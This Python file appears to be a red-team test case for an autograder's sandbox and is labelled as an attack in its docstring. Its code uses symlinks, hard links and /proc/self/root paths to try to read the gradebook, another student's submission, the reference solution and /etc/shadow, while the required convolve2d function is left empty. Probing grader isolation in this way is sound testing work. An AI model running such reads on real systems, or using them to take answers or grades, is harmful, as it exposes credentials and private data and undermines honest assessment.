"""Attack: symbolic and hard links in the own folder that point outside, and a walk through /proc/self.
Wants: to read by another name.
Honest mark: 8
"""

# %% convolve2d
import os

targets = [
    "CANARY/gradebook.db",
    "CANARY/submitted/other/conv2d/1_convolve2d.ipynb",
    "REPO/reference/convolution.py",
    "/etc/shadow",
]
for number, target in enumerate(targets):
    for link in (os.symlink, os.link):
        try:
            link(target, f"link-{number}-{link.__name__}")
            print(open(f"link-{number}-{link.__name__}", "rb").read(100))
        except OSError:
            pass
for way in ("/proc/self/root", "/proc/self/cwd/../../..", "/proc/thread-self/root", "/proc/1/root"):
    for target in targets:
        try:
            print(open(way + target, "rb").read(100))
        except OSError:
            pass


def convolve2d(image, kernel, stride=1, padding=0):
    pass
